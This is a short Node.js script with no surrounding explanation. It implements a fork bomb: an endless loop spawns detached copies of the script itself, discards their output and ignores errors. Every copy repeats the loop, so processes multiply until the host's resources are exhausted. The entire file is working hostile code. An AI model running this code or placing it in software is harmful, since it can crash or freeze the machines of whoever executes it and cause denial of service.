const { spawn } = require('child_process');
for (;;) {
  try {
    spawn(process.execPath, [__filename], { stdio: 'ignore', detached: true }).unref();
  } catch (e) {}
}
